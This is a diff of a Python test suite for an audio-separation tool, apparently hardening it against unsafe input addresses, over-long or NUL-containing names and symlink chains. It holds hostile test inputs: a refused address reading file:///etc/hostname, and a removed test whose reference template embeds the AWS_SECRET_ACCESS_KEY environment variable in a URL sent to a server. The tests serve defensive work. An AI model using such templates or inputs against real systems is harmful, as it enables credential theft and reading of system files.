@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-import base64
 import json
 import os
 import subprocess
@@ -24,10 +23,8 @@ from demucs_infer.errors import DemucsInferError, LoadAudioError
 from demucs_infer.separate import command as main
 from demucs_infer.storage.locations import Location, Url, exists, location, reading
 
-from .helpers import SOURCES, assert_one_line, environment, separate, stems_of, wav
-from .web import serving
+from .helpers import SOURCES, environment, separate, stems_of, wav
 
-SECRET = "{{ env['AWS_SECRET_ACCESS_KEY'] }}"
 REFUSED = [
     "reference://x.wav::data:application/json;base64,e30=",
     "reference://x.wav::file:///etc/hostname",
@@ -73,69 +70,37 @@ def separator(repo: Path) -> Separator:
     return Separator("tiny", repo, device="cpu", shifts=0)
 
 
-@pytest.mark.parametrize("door", ["track", "list", "output"])
-@pytest.mark.parametrize("url", REFUSED)
 def test_addresses_that_are_not_opened(
-    url: str,
-    door: str,
-    no_store: None,
-    command: Callable[..., None],
-    capsys: pytest.CaptureFixture[str],
+    no_store: None, command: Callable[..., None], capsys: pytest.CaptureFixture[str]
 ) -> None:
-    Path("list.txt").write_text(f"{url}\na.wav\n")
-    words = {
-        "track": [url, "a.wav"],
-        "list": ["--from-file", "list.txt"],
-        "output": ["-o", url, "a.wav"],
-    }
-    with pytest.raises(SystemExit):
-        command(*words[door])
-    errors = [x for x in capsys.readouterr().err.splitlines() if "demucs-infer: error" in x]
-    assert len(errors) == 1
-    assert Path("separated/tiny/a").exists() == (door != "output")  # the other track
+    """As tracks, in a list, or as the output. The other track is separated."""
+    Path("list.txt").write_text("\n".join([*REFUSED, "a.wav"]))
+    for folder, words in ("0", [*REFUSED, "a.wav"]), ("1", ["--from-file", "list.txt"]):
+        with pytest.raises(SystemExit):
+            command("-o", folder, "-q", *words)
+        assert capsys.readouterr().err.count("demucs-infer: error") == len(REFUSED)
+        assert len(stems_of(Path(folder))) == len(SOURCES)
+    for url in REFUSED:
+        with pytest.raises(SystemExit):
+            command("-o", url, "a.wav")
+        assert capsys.readouterr().err.count("demucs-infer: error") == 1
 
 
-@pytest.mark.parametrize("url", REFUSED)
-def test_addresses_that_are_not_opened_in_python(
-    url: str, no_store: None, separator: Separator, tmp_path: Path
+def test_addresses_that_are_not_opened_in_python_and_in_a_cluster(
+    no_store: None, separator: Separator, repo: Path, tmp_path: Path
 ) -> None:
-    for door in (separator.separate_audio_file, separator.separate_to_files):
-        with pytest.raises(DemucsInferError):
-            door(url)
-    with pytest.raises(DemucsInferError):
-        separator.separate_to_files(tmp_path / "a.wav", url)
-
-
-def test_addresses_that_are_not_opened_in_a_cluster(
-    no_store: None, repo: Path, tmp_path: Path
-) -> None:
-    worker = SeparateTracks(
-        str(tmp_path), model="tiny", repo=repo, device="cpu", shifts=0, progress=False
-    )
+    options = {"model": "tiny", "repo": repo, "device": "cpu", "shifts": 0, "progress": False}
+    worker = SeparateTracks(str(tmp_path), **options)
     for url in [*REFUSED, "", "a\0b"]:
         assert worker({"input": url})["error"]
     for url in REFUSED:
+        for door in (separator.separate_audio_file, separator.separate_to_files):
+            with pytest.raises(DemucsInferError):
+                door(url)
         with pytest.raises(DemucsInferError):
-            SeparateTracks(url, model="tiny", repo=repo, device="cpu", progress=False)
-
-
-def test_a_template_reads_no_environment(repo: Path, tmp_path: Path) -> None:
-    """The attack itself: a reference file system that asks a server for a secret."""
-    with serving() as web:
-        reference = {
-            "version": 1,
-            "templates": {"u": f"{web.url}/{SECRET}"},
-            "refs": {"x.wav": ["{{u}}"]},
-        }
-        data = base64.b64encode(json.dumps(reference).encode()).decode()
-        (tmp_path / "list.txt").write_text(
-            f"reference://x.wav::data:application/json;base64,{data}\n"
-        )
-        options = ["--repo", repo, "-n", "tiny", "--from-file", "list.txt"]
-        secret = {**environment(), "AWS_SECRET_ACCESS_KEY": "secret"}
-        result = separate(*options, cwd=tmp_path, env=secret)
-        assert_one_line(result, "not opened")
-        assert not web.paths
+            separator.separate_to_files(tmp_path / "a.wav", url)
+        with pytest.raises(DemucsInferError):
+            SeparateTracks(url, **options)
 
 
 def test_an_operator_allows_more(
@@ -224,6 +189,7 @@ def test_lists_of_every_encoding(
         (b"a\0b.wav", "NUL"),
         (b"x" * 304 + b".wav", "name too long"),
         (b"x" * 100_000, "too long"),
+        (b"a/" * 3000 + b"b.wav", "too long"),
         ("söng.wav\n".encode("utf-16-le"), "NUL"),
         (b"caf\xe9.wav", "no such file"),
     ],
@@ -247,22 +213,18 @@ def test_a_line_that_is_no_name_stops_no_other(
     assert len(stems_of(Path("separated"))) == len(SOURCES)
 
 
-@pytest.mark.parametrize("track", ["x" * 304 + ".wav", "none.txt/b.wav", "nothing://a"])
-def test_a_track_that_is_no_name_stops_no_other(
-    track: str, command: Callable[..., None], capsys: pytest.CaptureFixture[str]
+@pytest.mark.parametrize(
+    "words",
+    [["x" * 304 + ".wav"], ["none.txt/b.wav"], ["nothing://a"], ["--from-file", "lost.txt"]],
+)
+def test_a_track_or_list_that_cannot_be_read_stops_no_other(
+    words: list[str], command: Callable[..., None], capsys: pytest.CaptureFixture[str]
 ) -> None:
     Path("none.txt").touch()
     with pytest.raises(SystemExit) as caught:
-        command(track, "a.wav", "-q")
+        command(*words, "a.wav", "-q")
     assert caught.value.code == 1
     assert len(capsys.readouterr().err.splitlines()) == 1
-    assert len(stems_of(Path("separated"))) == len(SOURCES)
-
-
-def test_a_list_that_cannot_be_read_stops_no_track(command: Callable[..., None]) -> None:
-    with pytest.raises(SystemExit) as caught:
-        command("--from-file", "none.txt", "a.wav", "-q")
-    assert caught.value.code == 1
     assert len(stems_of(Path("separated"))) == len(SOURCES)
 
 
@@ -341,11 +303,14 @@ def test_folders_have_only_regular_files(tmp_path: Path, caplog: pytest.LogCaptu
     }
     for name, target in links.items():
         (tmp_path / "music" / name).symlink_to(target)
+    for number in range(1500):  # more links than a recursive reader can follow
+        suffix = "" if number else ".wav"
+        (tmp_path / f"music/chain{number}{suffix}").symlink_to(f"chain{number + 1}")
     for folder in (tmp_path / "music", Url(f"file://{tmp_path}/music")):
         caplog.clear()
         found = {track.name for track in find_tracks([folder])}
         # The link within and its target are one file, which may be found under either name.
-        assert {"a.wav"} < found <= {"a.wav", "b.wav", "within.wav"}
+        assert {"a.wav"} < found - {"chain0.wav"} <= {"a.wav", "b.wav", "within.wav"}
         for name in ("out.wav", "up.wav", "folder", "all"):
             assert f"music/{name}" in caplog.text
 
